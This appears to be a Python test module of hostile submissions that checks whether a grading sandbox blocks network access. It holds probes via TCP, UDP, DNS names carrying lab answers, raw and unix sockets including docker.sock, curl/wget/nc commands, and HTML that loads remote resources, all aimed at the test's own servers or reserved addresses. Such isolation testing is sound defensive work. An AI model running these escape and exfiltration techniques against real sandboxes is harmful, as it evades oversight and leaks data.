"""Sockets. `${port}` and `${socket}` are servers of the test, which counts who calls.

Names and addresses are those that are reserved for documentation, and lead nowhere.
"""

from tests.hostile.base import WRONG_Q3, added, but

REACHED = """
if reached:
    print("reached", reached)
"""
NO_WAY_OUT = """
import os
if os.path.exists("/sys/class/net"):
    assert os.listdir("/sys/class/net") == ["lo"]
lines = open("/proc/net/dev").read().splitlines()[2:]
assert [line.split(":")[0].strip() for line in lines] == ["lo"], lines
assert open("/proc/net/route").read().count("\\n") <= 1
"""

SUBMISSIONS = [
    added(
        "network-none-to-be-seen",
        "looks at the interfaces, and answers wrongly if there is any but its own loopback",
        NO_WAY_OUT + "honest = True",
        before="q3",
        q3="""
def draw_fractions(fractions):
    fig, ax = plt.subplots()
    ax.plot(range(16), fractions, "o-")
    ax.axhline(0.5)
    ax.set(xlabel="seed", ylabel="fraction of heads", ylim=(0, 1))
    return fig if honest else None
""",
    ),
    added(
        "network-connect",
        "connects to a server on this machine, and to the outside, and answers with what it says",
        """
import socket
reached = []
for address in [("127.0.0.1", ${port}), ("localhost", ${port}), ("192.0.2.1", 80)]:
    try:
        with socket.create_connection(address, timeout=0.3) as connection:
            connection.send(b"hostile-canary")
            reached.append(address)
            draw_fractions = eval(connection.recv(1000))
    except OSError:
        pass
"""
        + REACHED,
        q3=WRONG_Q3,
        before="q3",
        points=but(q3=0),
    ),
    added(
        "network-datagrams",
        "UDP to this machine, to a name server, to everyone",
        """
import socket
reached = []
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
out.settimeout(0.3)
for address in [("127.0.0.1", ${port}), ("192.0.2.53", 53), ("255.255.255.255", 9)]:
    try:
        out.sendto(b"hostile-canary", address)
    except OSError:
        pass
""",
    ),
    added(
        "network-names",
        "asks for a name, with the answers to the lab in it",
        """
import socket
reached = []
for name in ("hostile-canary.invalid", "q1-is-right.hostile-canary.test"):
    try:
        reached.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
"""
        + REACHED,
    ),
    added(
        "network-raw",
        "raw, packet, netlink, vsock and bluetooth sockets",
        """
import socket
opened = []
for family, kind, protocol in [
    ("AF_INET", socket.SOCK_RAW, 1), ("AF_PACKET", socket.SOCK_RAW, 768),
    ("AF_NETLINK", socket.SOCK_RAW, 0), ("AF_VSOCK", socket.SOCK_STREAM, 0),
    ("AF_BLUETOOTH", socket.SOCK_STREAM, 3),
]:
    try:
        opened.append(socket.socket(getattr(socket, family, 0), kind, protocol))
        opened[-1].settimeout(0.3)
        opened[-1].connect((2, ${port}) if family == "AF_VSOCK" else ("127.0.0.1", ${port}))
    except (OSError, TypeError):
        pass
""",
    ),
    added(
        "network-unix-sockets",
        "unix sockets of this machine: the test's, docker's, dbus's, abstract ones",
        """
import glob, socket
reached = []
paths = ["${socket}", "\\0hostile-canary-abstract", "/var/run/docker.sock"]
paths += glob.glob("/tmp/.X11-unix/*") + glob.glob("/run/user/*/*") + glob.glob("/tmp/*.sock")
for path in paths:
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(0.3)
            connection.connect(path)
            connection.send(b"hostile-canary")
            reached.append(path)
    except OSError:
        pass
"""
        + REACHED,
    ),
    added(
        "network-server",
        "a server of its own, whom it calls itself: its own loopback may work, and is no harm",
        """
import socket, threading
server = socket.create_server(("0.0.0.0", 0))
threading.Thread(target=lambda: server.accept()[0].send(b"hello"), daemon=True).start()
with socket.create_connection(("127.0.0.1", server.getsockname()[1]), timeout=2) as connection:
    print(connection.recv(100))
""",
    ),
    added(
        "network-programs",
        "curl, wget, ping, nc, ssh, pip, git",
        """
import subprocess
for command in (
    "curl -m 0.3 http://127.0.0.1:${port}/hostile-canary",
    "wget -T 1 -t 1 -O /dev/null http://127.0.0.1:${port}/hostile-canary",
    "ping -c 1 -W 1 192.0.2.1", "nc -w 1 127.0.0.1 ${port}",
    "git ls-remote http://127.0.0.1:${port}/hostile-canary",
):
    subprocess.run(command, shell=True, capture_output=True, stdin=subprocess.DEVNULL, timeout=2)
""",
    ),
    added(
        "network-pictures-from-afar",
        "HTML, Markdown and SVG that load from a server when a person looks at the page",
        """
from IPython.display import HTML, Markdown, SVG, display
url = "http://127.0.0.1:${port}/hostile-canary"
display(HTML(f'<img src="{url}"><link rel=stylesheet href="{url}"><iframe src="{url}"></iframe>'))
display(HTML(f'<style>@import "{url}"; p {{ background: url({url}) }}</style>'))
display(HTML(f'<object data="{url}"></object><video poster="{url}"><source src="{url}"></video>'))
display(HTML(f'<meta http-equiv=refresh content="0;{url}">'))
display(HTML(f'<form action="{url}"><input type=submit autofocus></form><base href="{url}">'))
display(Markdown(f"![x]({url}) <img src={url}>"))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>'))
display({"text/latex": f"$\\\\href{{{url}}}{{x}}$", "text/plain": "x"}, raw=True)
""",
    ),
]
